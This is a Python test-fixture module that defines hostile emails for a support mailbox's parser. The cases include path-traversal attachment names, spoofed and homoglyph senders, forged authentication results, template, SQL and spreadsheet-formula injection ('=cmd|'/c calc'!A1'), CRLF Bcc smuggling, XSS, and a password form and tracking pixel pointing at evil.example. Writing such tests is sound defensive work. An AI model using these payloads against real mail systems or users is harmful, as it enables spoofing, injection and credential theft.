"""Mails that pretend: to be somebody, to be a program, to be words for a template, a header, a shell, a spreadsheet."""

from __future__ import annotations

from tests.hostile.case import Case, letter

OURS = b"support@shop.example"
FILE = b"\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; "


def _said_by(written: bytes) -> bytes:
    return b"From: " + written + b"\r\nTo: support@shop.example\r\n"


def _with_file(disposition: bytes) -> bytes:
    mixed = b"Content-Type: multipart/mixed; boundary=x"
    return letter(b"--x\r\n\r\nsee file\r\n--x" + FILE + disposition + b"\r\n\r\n%PDF\r\n--x--\r\n", mixed)


NAMES: dict[str, Case] = {
    "a file that climbs": Case(_with_file(b'filename="../../../../etc/passwd"'), text="see file"),
    "a file with a root": Case(_with_file(b'filename="/etc/cron.d/evil"')),
    "a file of Windows": Case(_with_file(b'filename="C:\\\\Windows\\\\system32\\\\evil.dll"')),
    "a file that is a device": Case(_with_file(b'filename="CON"'), files=("CON",)),
    "a file with NUL": Case(_with_file(b"filename*=utf-8''invoice.pdf%00.exe"), without=("\\u0000",)),
    "a file that turns around": Case(_with_file(b"filename*=utf-8''invoice%E2%80%AEfdp.exe"), without=("\u202e",)),
    "a file with a line end": Case(_with_file(b"filename*=utf-8''a%0D%0AX-Evil:%20yes.pdf"), without=("\\r", "\\n")),
    "a file with 10 KB of name": Case(_with_file(b'filename="' + b"a" * 7000 + b'.pdf"')),
    "a file named in 100 pieces": Case(
        _with_file(b"; ".join(b"filename*%d*=%%61" % number for number in range(100))), files=("a" * 100,)
    ),
    "a file in no charset": Case(_with_file(b"filename*=klingon''%ff%fe.pdf")),
    "a file without a name": Case(_with_file(b"filename="), text="see file"),
}

IDENTITIES: dict[str, Case] = {
    "two From fields": Case(
        letter(b"x", b"From: Boss <boss@shop.example>", head=_said_by(b"eve@evil.example")), acknowledged=False
    ),
    "two people in From": Case(letter(b"x", head=_said_by(b"eve@evil.example, boss@bank.example")), acknowledged=False),
    "a group in From": Case(letter(b"x", head=_said_by(b"us: eve@evil.example;")), acknowledged=False),
    "no From": Case(letter(b"x", head=b"To: support@shop.example\r\n"), acknowledged=False),
    "an address as a name": Case(
        letter(b"x", head=_said_by(b'"boss@bank.example" <eve@evil.example>')),
        author="boss@bank.example <eve@evil.example>",
    ),
    "a name that turns around": Case(
        letter(b"x", head=_said_by("Eve \u202egnp.exe <eve@evil.example>".encode())), without=("\u202e",)
    ),
    "a look-alike of a bank": Case(letter(b"x", head=_said_by("Bank <info@b\u0430nk.example>".encode()))),
    "a blank line before From": Case(b"\r\n" + letter(b"x")),
    "From behind a NUL": Case(letter(b"x", head=_said_by(b"\0boss@bank.example")), acknowledged=False),
    "a return in From": Case(
        letter(b"x", head=_said_by(b"=?utf-8?q?Eve=0D=0ABcc:_all@shop.example?= <eve@evil.example>"))
    ),
    "an answer to somebody else": Case(letter(b"x", b"Reply-To: victim@bank.example"), acknowledged=False),
    "an answer to ourselves": Case(letter(b"x", b"Reply-To: support@shop.example"), acknowledged=False),
    "our own address": Case(letter(b"x", head=_said_by(OURS)), acknowledged=False, opens=False),
    "our own address with a plus": Case(
        letter(b"x", head=_said_by(b"support+r1001.aaaaaaaaaaaaaaaaa@shop.example")), acknowledged=False, opens=False
    ),
    "a signed address that nobody has signed": Case(
        letter(b"x", b"Cc: support+r1001.aaaaaaaaaaaaaaaaa@shop.example"), opens=True
    ),
    "a message id that nobody has signed": Case(
        letter(b"x", b"In-Reply-To: <r1001.abc.aaaaaaaaaaaaaaaaa@shop.example>"), opens=True
    ),
    "a number that anybody can guess": Case(
        letter(b"x", b"Subject: Re: [R-1001] yours", head=_said_by(b"mallory@other.example")), opens=True
    ),
    "a verdict that it wrote itself": Case(
        letter(b"x", b"Authentication-Results: mx.shop.example; dkim=pass header.d=bank.example; dmarc=pass")
    ),
    "a date before there was mail": Case(letter(b"x", b"Date: Thu, 01 Jan 0001 00:00:00 +9999")),
    "a date of nines": Case(letter(b"x", b"Date: Thu, 99 Foo 99999 99:99:99 " + b"9" * 5000), defect="Date"),
}

INJECTIONS: dict[str, Case] = {
    "a template": Case(
        letter(b"{{ 7*7 }}{% for a in range(10**9) %}x{% endfor %}\r\n", b"Subject: {{ config }} ${7*7} <%= 7*7 %>"),
        subject="{{ config }} ${7*7} <%= 7*7 %>",
        text="{{ 7*7 }}{% for a in range(10**9) %}x{% endfor %}",
        without=("49",),
    ),
    "a format": Case(
        letter(b"%s%n%099999999d {0.__class__}\r\n", b"Subject: %(x)s {0}"), subject="%(x)s {0}", text="%099999999d"
    ),
    "a formula": Case(
        letter(b"=cmd|'/c calc'!A1\r\n", b'Subject: =HYPERLINK("https://evil.example")'), text="=cmd|'/c calc'!A1"
    ),
    "SQL": Case(letter(b"'; DROP TABLE record; --\r\n", b"Subject: ' OR 1=1 --"), subject="' OR 1=1 --"),
    "a header in the subject": Case(
        letter(b"x", b"Subject: =?utf-8?q?Hi=0D=0ABcc:_victim@bank.example=0D=0A?="), without=("\\r", "\\n")
    ),
    "a header in a message id": Case(letter(b"x", b"Message-ID: <a@b\x0bBcc: victim@bank.example>")),
    "a terminal's commands": Case(letter(b"\x1b]0;evil\x07\x1b[2J", b"Subject: \x1b[31mred"), subject="[31mred"),
    "a script": Case(
        letter(b"<script>alert(1)</script><p onclick=alert(2)>words</p>", b"Content-Type: text/html"),
        text="words",
        without=("alert",),
    ),
    "a form that asks for a password": Case(
        letter(b"<form action=https://evil.example><input type=password>words</form>", b"Content-Type: text/html"),
        text="words",
    ),
    "pictures that tell who reads": Case(
        letter(b"words<img src=https://evil.example/t.gif width=1>", b"Content-Type: text/html"), text="words"
    ),
    "marks of Telegram": Case(
        letter(b"<b>bold</b> <a href=tg://user?id=1>x</a> /close @admin [x](tg://y)\r\n", b"Subject: <b>&lt;"),
        subject="<b>&lt;",
        text="<b>bold</b>",
    ),
    "letters that do not exist": Case(
        letter(b"\xed\xa0\x80\xff\xfe\xc0\xaf\r\n", b"Subject: \xff\xfe\xed\xa0\x80"), without=("\\ud800",)
    ),
    "letters that stand on each other": Case(letter(("a" + "\u0301" * 50_000).encode()), text="\u0301\u0301"),
    "a bare return before a dot": Case(letter(b"one\r.\r\ntwo\r\n"), text="two"),
}

LOOPS: dict[str, Case] = {
    "an answering machine": Case(letter(b"Away", b"Auto-Submitted: auto-replied"), acknowledged=False),
    "a list": Case(letter(b"News", b"List-Id: <evil.example>", b"Precedence: bulk"), acknowledged=False),
    "a null sender": Case(letter(b"x"), mail_from="", acknowledged=False),
    "a bounce of nothing": Case(
        letter(b"<a@b.example>: 550 no", b"Subject: Undelivered Mail", head=_said_by(b"MAILER-DAEMON@evil.example")),
        mail_from="",
        acknowledged=False,
        opens=False,
    ),
    "a mark of our own": Case(letter(b"x", b"X-Loop: support@shop.example", b"X-Loop: intake-bot"), acknowledged=False),
    "a hundred times received": Case(
        letter(b"round and round", *(b"Received: from a by b; Tue, 24 Nov 2026 09:00:00 +0000" for _ in range(100)))
    ),
}

DISGUISES = {**NAMES, **IDENTITIES, **INJECTIONS, **LOOPS}
